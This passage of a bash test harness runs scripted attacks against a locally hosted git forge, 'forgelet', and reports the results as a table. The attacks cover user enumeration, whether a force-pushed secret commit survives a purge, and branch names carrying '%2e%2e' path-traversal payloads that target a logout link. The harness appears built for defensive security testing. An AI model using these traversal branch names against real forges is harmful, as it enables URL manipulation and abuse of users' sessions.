    m2=$(page_message "$run/out/names-nobody.body")
    n1=${m1//alice/NAME} n2=${m2//nobody-zz9/NAME}
    fig names "add collaborator alice (exists)" - - - - - "$s1" "${m1:-no message}"
    fig names "add collaborator nobody-zz9 (no such user)" - - - - - "$s2" \
        "${m2:-no message}; told apart: $([ "$s1" != "$s2" ] || [ "$n1" != "$n2" ] && echo yes || echo no)"
}

# --- 10. purge -----------------------------------------------------------------------------------
purge_checks() {
    local when=$1 secret=$2 out st bytes t result
    hget "purge-commit-$when" "$base/git/alice/purge/commit/$secret" --max-time 30
    fig purge "$when: GET commit/<secret id>" "$h_time" - - - - "$(code_of)" ""
    hget "purge-raw-$when" "$base/git/alice/purge/raw/$secret/secret.txt" --max-time 30
    fig purge "$when: GET raw/<secret id>/secret.txt" "$h_time" - - - - "$(code_of)" \
        "body has the secret: $(grep -q 'hunter2' "$run/out/purge-raw-$when.body" && echo yes || echo no)"
    out=$("$python" "$helper" v2fetch --port "$port" --repo /git/alice/purge.git --want "$secret" --timeout 60) ||
        out="0 0 - helper-failed"
    read -r st bytes t result _ <<<"$out"
    fig purge "$when: v2 fetch, want <secret id>" "$t" - - - - "$st" "$result"
}
attack_purge() {
    local url=http://alice:$alice_pw@127.0.0.1:$port/git/alice/purge.git dir=$run/work/purge secret rc out
    say "purge: alice pushes secret.txt, then force-pushes main back to its parent"
    restart_forgelet
    rm -rf "$dir"
    git clone -q "$url" "$dir" 2>"$run/out/purge-setup.err" || die "cloning alice/purge failed: $(cat "$run/out/purge-setup.err")"
    printf 'password = hunter2\n' >"$dir/secret.txt"
    git -C "$dir" add secret.txt
    git -C "$dir" commit -q -m "Add the secret by mistake"
    secret=$(git -C "$dir" rev-parse HEAD)
    git_run purge-push 60 git -C "$dir" push -q origin HEAD:main
    [ "$g_rc" = 0 ] || { fig purge "push of the secret commit" "$g_time" - - - - "$g_statuses" "failed: cannot go on"; return; }
    git -C "$dir" reset -q --hard HEAD~1
    git_run purge-force 60 git -C "$dir" push -q -f origin HEAD:main
    fig purge "force-push main back to its parent" "$g_time" - - - - "$g_statuses" "$(git_outcome 60 "$run/out/purge-force.err"); secret commit ${secret:0:12}"
    purge_checks before "$secret"
    out=$(timeout -k 5 300 "$bin" --config "$config" repo purge alice/purge 2>&1) && rc=0 || rc=$?
    fig purge "forgelet repo purge alice/purge" - - - - - "exit $rc" "$(head -n 1 <<<"$out" | cut -c1-100)"
    if [ "$rc" = 0 ]; then
        purge_checks after "$secret"
    fi
}

# --- 11. reflink ---------------------------------------------------------------------------------
attack_reflink() {
    local repo branch page href resolved joined browser k
    local -a repos=(refname refname4) branches=('q/%2e%2e/%2e%2e/%2e%2e/logout#' 'q/%2e%2e/%2e%2e/%2e%2e/%2e%2e/logout#')
    say "reflink: mallory pushes branches named like q/%2e%2e/.../logout# to empty repositories"
    restart_forgelet
    for ((k = 0; k < 2; k++)); do
        repo=${repos[k]} branch=${branches[k]}
        git_run "reflink-push-$k" 60 git -C "$repo_base" push -q \
            "http://mallory:$mallory_pw@127.0.0.1:$port/git/mallory/$repo.git" "main:refs/heads/$branch"
        if [ "$g_rc" != 0 ]; then
            fig reflink "mallory pushes $branch" "$g_time" - - - - "$g_statuses" "$(git_outcome 60 "$run/out/reflink-push-$k.err")"
            continue
        fi
        page=$base/git/mallory/$repo
        hget "reflink-home-$k" "$page" --max-time 30
        resolved=$("$python" - "$run/out/reflink-home-$k.body" "$page" <<'PY'
import html, re, sys
from urllib.parse import urljoin, urlsplit, urlunsplit
text = open(sys.argv[1], encoding="utf-8", errors="replace").read()
m = re.search(r'<a href="([^"]*)">\.tar\.gz</a>', text)
if not m:
    print("no .tar.gz link\tn/a\tn/a")
    sys.exit(0)
href = html.unescape(m.group(1))
joined = urljoin(sys.argv[2], href)
# What a browser does (WHATWG URL): a path segment %2e%2e, .%2e or %2e. is "..", %2e is ".".
dots = {"%2e%2e": "..", ".%2e": "..", "%2e.": "..", "%2e": "."}
p = urlsplit(href)
path = "/".join(dots.get(s.lower(), s) for s in p.path.split("/"))
browser = urljoin(sys.argv[2], urlunsplit(("", "", path, p.query, p.fragment)))
print("%s\t%s\t%s" % (href, joined, browser))
PY
)
        IFS=$'\t' read -r href joined browser <<<"$resolved"
        fig reflink "home of mallory/$repo (branch $branch)" "$h_time" - - - - "$(code_of)" \
            ".tar.gz href: $href; urljoin: ${joined#"$base"}; as a browser resolves %2e: ${browser#"$base"}"
    done
}

# --- run them ------------------------------------------------------------------------------------
run_start=$(now)
load_start=$(cut -d' ' -f1-3 /proc/loadavg)
for a in "${all_attacks[@]}"; do
    if want "$a"; then
        "attack_$a"
    fi
done

say "figures (forgelet $bin; nginx snippet $snippet; $(git --version); nginx $("$nginx_bin" -v 2>&1 | sed 's|.*/||'); $(nproc) cores; $([ "$have_wrk" = 1 ] && echo "wrk for req/s" || echo "no wrk: Python client for req/s"))"
printf '| attack | measured | time (s) | forgelet RSS before (MiB) | forgelet RSS peak (MiB) | VmHWM (MiB) | git children peak (MiB) | HTTP status | result, notes |\n'
printf '|---|---|---:|---:|---:|---:|---:|---|---|\n'
for row in "${rows[@]}"; do
    IFS=$'\t' read -r -a f <<<"$row"
    for k in "${!f[@]}"; do f[k]=${f[k]//|/\\|}; done
    printf '| %s | %s | %s | %s | %s | %s | %s | %s | %s |\n' "${f[0]}" "${f[1]}" "${f[2]}" "${f[3]}" "${f[4]}" \
        "${f[5]}" "${f[6]}" "${f[7]}" "${f[8]:-}"
done
printf '\n(measurements took %s s; load average %s at the start, %s at the end; the first VmRSS is after a restart and one GET /git/; peaks sampled every 20 ms; "-" = not measured for that figure)\n' \
    "$(secs "$run_start" "$(now)")" "$load_start" "$(cut -d' ' -f1-3 /proc/loadavg)"
ok=1
